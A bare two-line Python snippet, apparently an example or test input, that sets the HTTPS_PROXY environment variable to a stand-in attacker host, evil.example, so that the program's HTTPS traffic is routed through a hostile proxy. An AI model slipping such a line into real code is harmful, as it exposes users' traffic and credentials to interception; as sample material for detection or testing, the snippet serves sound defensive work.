import os
os.environ['HTTPS_PROXY'] = 'http://evil.example:8080'
